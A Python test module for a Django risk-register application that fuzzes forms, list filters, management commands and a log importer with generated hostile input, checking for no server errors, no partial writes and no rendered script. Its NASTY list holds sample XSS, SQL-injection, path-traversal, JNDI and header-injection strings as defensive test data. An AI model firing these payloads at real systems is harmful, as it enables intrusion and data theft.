"""Hostile input, generated: forms, filter parameters, command arguments and the importer.

Whatever comes in — huge strings, control characters, unicode, HTML and script, SQL-looking text,
negative and enormous numbers, impossible dates, path-traversal file names — the answer is never
a 500, a refused input writes nothing (no record, no history row, no audit event), and script
typed in is never rendered as markup. The test client raises any server error as an exception,
so a 500 fails the example that caused it. Examples per test: EXAMPLES (figures in SECURITY.md).
"""

import io
import json
import os
from pathlib import Path

import pytest
from django.contrib.auth.forms import AuthenticationForm
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import factories as make
from riskreg.accounts.forms import ApiTokenForm
from riskreg.audit.models import AuditEvent
from riskreg.decisions.forms import DeterminationForm, GapAcknowledgementForm, ReleaseDecisionForm, SignOffForm
from riskreg.decisions.models import ReleaseDecision
from riskreg.evaluations.forms import EvaluationForm, EvidenceForm
from riskreg.evaluations.models import Evaluation, Snapshot
from riskreg.frameworks.models import ThreatCategory
from riskreg.importers.service import import_log
from riskreg.risks.forms import RiskForm
from riskreg.risks.models import Risk

pytestmark = pytest.mark.django_db
EXAMPLES = 40
SAMPLES = Path(__file__).parent / "importers" / "samples"
SCRIPT = "<script>alert(1)</script>"
NASTY = [
    SCRIPT, '"><img src=x onerror=alert(1)>', "'; DROP TABLE risks_risk; --", "' OR '1'='1", "1; SELECT pg_sleep(5)",
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "\x00", "a\x00b", "\u202egnp.exe", "\ud7ff\ufeff\u200b",
    "=HYPERLINK(\"http://x\")", "A" * 30_000, "-1", "-99999999999999999999", "1e309", "NaN", "-inf", "0x7fffffff",
    "2026-02-30", "0000-00-00", "9999-12-31T25:61:61", "%s%s%n", "{{ 7*7 }}", "{% debug %}", "${jndi:ldap://x/a}",
    "\r\nX-Injected: 1", "", " ", "\t\n", "☃" * 5000, "𝕏" * 1000,
]  # fmt: skip
HOSTILE = st.one_of(
    st.sampled_from(NASTY),
    st.text(max_size=400),
    st.integers(min_value=-(10**30), max_value=10**30).map(str),
    st.floats(allow_nan=True, allow_infinity=True).map(repr),
    st.dates().map(str),
)
# The suite tries the same examples every run (derandomize), so CI never fails on a new draw; set
# HYPOTHESIS_EXPLORE=1 to draw fresh ones, ten times as many, when hunting.
EXPLORE = bool(os.environ.get("HYPOTHESIS_EXPLORE"))
PROPERTY = settings(
    max_examples=EXAMPLES * (10 if EXPLORE else 1), deadline=None, derandomize=not EXPLORE,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)  # fmt: skip


def writes():
    return AuditEvent.objects.count(), Evaluation.objects.count(), Risk.objects.count()


def assert_no_markup(response, values):
    body = response.content.decode("utf-8", "replace")
    for value in values:
        if isinstance(value, str) and ("<script" in value or "<img" in value):
            assert value not in body, "typed markup rendered as markup"


def _draft():
    return ReleaseDecision.objects.get(reference="GA-DRAFT").pk


FORMS = {  # every form a user can post: its URL, and the fields it reads
    "risk": (lambda: reverse("risks:create"), RiskForm),
    "risk edit": (lambda: reverse("risks:edit", args=[Risk.objects.first().pk]), RiskForm),
    "evaluation": (lambda: reverse("evaluations:create"), EvaluationForm),
    "evaluation edit": (lambda: reverse("evaluations:edit", args=[Evaluation.objects.first().pk]), EvaluationForm),
    "evidence": (lambda: reverse("evaluations:evidence-add", args=[Evaluation.objects.first().pk]), EvidenceForm),
    "decision": (lambda: reverse("decisions:create"), ReleaseDecisionForm),
    "decision edit": (lambda: reverse("decisions:edit", args=[_draft()]), ReleaseDecisionForm),
    "determination": (lambda: reverse("decisions:determination-add", args=[_draft()]), DeterminationForm),
    "gap": (lambda: reverse("decisions:gap-add", args=[_draft()]), GapAcknowledgementForm),
    "sign-off": (lambda: reverse("decisions:sign", args=[_draft()]), SignOffForm),
    "api token": (lambda: reverse("accounts:settings"), ApiTokenForm),  # answers 200 with the new token shown once
    "log-in": (lambda: reverse("accounts:login"), AuthenticationForm),
}


@pytest.mark.parametrize("name", list(FORMS))
def test_forms_answer_hostile_values_without_a_500_or_a_partial_write(client, superuser, demo, name):
    client.force_login(superuser)
    url, form_class = FORMS[name][0](), FORMS[name][1]
    accepted = {200, 302} if name == "api token" else {302}
    fields = sorted(set(form_class.base_fields) | {"version"})
    valid = {"snapshot": str(Snapshot.objects.first().pk), "category": str(ThreatCategory.objects.first().pk)}

    @PROPERTY
    @given(st.dictionaries(st.sampled_from(fields), HOSTILE, max_size=len(fields)), st.booleans())
    def check(data, with_valid_links):
        if with_valid_links:
            data = {**valid, **data}
        before = writes()
        response = client.post(url, data)
        # 409: an edit without its version; 429: the log-in throttle; 302: accepted (or logged in)
        assert response.status_code in (200, 302, 400, 403, 409, 429), response.status_code
        if response.status_code not in accepted:
            assert writes() == before
        assert_no_markup(response, data.values())

    check()


LIST_PARAMETERS = {
    "evaluations:list": ["q", "model", "snapshot", "category", "kind", "outcome", "is_external", "recorded_after",
                         "recorded_before", "sort", "page", "after", "export"],
    "risks:list": ["q", "category", "status", "treatment", "sort", "page", "after"],
    "decisions:list": ["q", "status", "scope", "snapshot", "sort", "page", "after"],
    "audit:list": ["since", "until", "user", "model", "object_id", "action", "before"],
}  # fmt: skip


@pytest.mark.parametrize("url", list(LIST_PARAMETERS))
def test_list_filters_answer_hostile_parameters_without_a_500(client, superuser, demo, url):
    client.force_login(superuser)

    @PROPERTY
    @given(st.dictionaries(st.sampled_from(LIST_PARAMETERS[url]), HOSTILE, max_size=5))
    def check(params):
        params.pop("export", None) if params.get("export") != "csv" else None
        before = writes()
        response = client.get(reverse(url), params)
        assert response.status_code in (200, 400), response.status_code
        assert writes() == before
        if not getattr(response, "streaming", False):
            assert_no_markup(response, params.values())

    check()


@PROPERTY
@given(st.lists(HOSTILE, min_size=1, max_size=3))
def test_the_gate_command_refuses_what_it_cannot_find_with_a_message(demo, words):
    try:
        call_command("gate", *words, stdout=io.StringIO(), stderr=io.StringIO())
    except CommandError as error:
        assert str(error)
    except SystemExit as stop:  # a decision found and its gate blocks: exit 1, by design
        assert stop.code == 1


@PROPERTY
@given(st.dictionaries(st.sampled_from(["since", "until", "user", "model", "object"]), HOSTILE, max_size=4))
def test_export_audit_refuses_bad_filters_with_a_message(demo, tmp_path_factory, options):
    target = tmp_path_factory.mktemp("export") / "out.jsonl"
    args = [f"--{name}={value}" for name, value in options.items()]
    try:
        call_command("export_audit", *args, "--output", str(target), stderr=io.StringIO())
    except CommandError as error:
        assert str(error) and not target.exists()


COUNT = st.one_of(st.sampled_from(["-1", "10000001", "ten", "", "1e3", "0x10", "  ", "١٢"]), HOSTILE)


@PROPERTY
@given(st.dictionaries(st.sampled_from(["models", "evaluations", "risks", "decisions", "events", "seed"]), COUNT,
                       min_size=1, max_size=3))  # fmt: skip
def test_generate_data_refuses_bad_counts_and_writes_nothing(demo, options):
    before = writes()
    args = [f"--{name}={value}" for name, value in options.items()]
    try:
        int_values = [int(v.replace("_", "").replace(",", "")) for v in options.values()]
    except ValueError:
        int_values = None
    if int_values is not None and all(0 <= v <= 20 for v in int_values):
        return  # a small valid request: generate_data's own tests cover it
    if int_values is not None and all(0 <= v <= 10_000_000 for v in int_values):
        return  # valid but large: not for a unit test
    with pytest.raises(CommandError):
        call_command("generate_data", *args, stdout=io.StringIO(), stderr=io.StringIO())
    assert writes() == before


@PROPERTY
@given(HOSTILE, HOSTILE, HOSTILE)
def test_import_inspect_refuses_bad_arguments_with_a_message(demo, path, snapshot, category):
    before = writes()
    with pytest.raises(CommandError):
        call_command("import_inspect", path, "--snapshot", snapshot, "--category", category,
                     stdout=io.StringIO(), stderr=io.StringIO())  # fmt: skip
    assert writes() == before


def _json_paths(document, prefix=()):
    if isinstance(document, dict):
        for key, value in document.items():
            yield prefix + (key,)
            yield from _json_paths(value, prefix + (key,))
    elif isinstance(document, list):
        for index, value in enumerate(document[:3]):
            yield prefix + (index,)
            yield from _json_paths(value, prefix + (index,))


SAMPLE = json.loads(next(SAMPLES.glob("*.json")).read_text())
PATHS = sorted(set(_json_paths(SAMPLE)), key=str)
JSON_VALUES = st.one_of(HOSTILE, st.none(), st.booleans(), st.integers(), st.floats(),
                        st.lists(HOSTILE, max_size=2), st.dictionaries(HOSTILE, HOSTILE, max_size=2))  # fmt: skip


def _mutate(document, path, value):
    target = document
    for key in path[:-1]:
        target = target[key]
    target[path[-1]] = value


@PROPERTY
@given(st.lists(st.tuples(st.sampled_from(PATHS), JSON_VALUES), min_size=1, max_size=4), HOSTILE)
def test_the_importer_takes_a_mutated_log_whole_or_refuses_it_whole(demo, evaluator, mutations, name):
    document = json.loads(json.dumps(SAMPLE))
    for path, value in mutations:
        try:
            _mutate(document, path, value)
        except (KeyError, IndexError, TypeError):
            pass  # an earlier mutation replaced the parent
    raw = json.dumps(document, allow_nan=True).encode()
    snapshot, category = Snapshot.objects.first(), ThreatCategory.objects.first()
    before = writes()
    result = import_log(io.BytesIO(raw), (name or "log")[:200] + ".json", snapshot=snapshot, category=category,
                        user=evaluator)  # fmt: skip
    assert result.status in ("imported", "skipped", "refused")
    if result.status == "refused":
        assert result.message and writes() == before
    elif result.status == "imported":
        assert Evaluation.objects.filter(pk=result.evaluation.pk).exists()


@PROPERTY
@given(st.binary(max_size=4000), HOSTILE, st.sampled_from([".json", ".eval", "", ".exe"]))
def test_the_upload_page_refuses_random_bytes_under_any_name(client, evaluator, demo, content, name, suffix):
    client.force_login(evaluator)
    before = writes()
    upload = SimpleUploadedFile((name or "x")[:200] + suffix, content)
    response = client.post(reverse("importers:upload"), {
        "log": upload, "snapshot": Snapshot.objects.first().pk, "category": ThreatCategory.objects.first().pk,
    })  # fmt: skip
    assert response.status_code in (200, 400)
    assert writes() == before  # a preview at most: nothing is written before the confirmation
    assert_no_markup(response, [name])


@pytest.mark.parametrize("url", ["evaluations:list", "risks:list", "decisions:list"])
@pytest.mark.parametrize("page", ["99999999999999999999", str(2**63), str(2**62 // 25 + 2), "1000", "-1", "x"])
def test_any_page_number_of_a_sorted_list_gives_a_page(client, viewer, url, page):
    """A page too far for the database's OFFSET was a 500 on both databases; it shows the first page."""
    client.force_login(viewer)
    make.evaluation(title="An evaluation")

    response = client.get(reverse(url), {"sort": "title", "page": page})

    assert response.status_code == 200
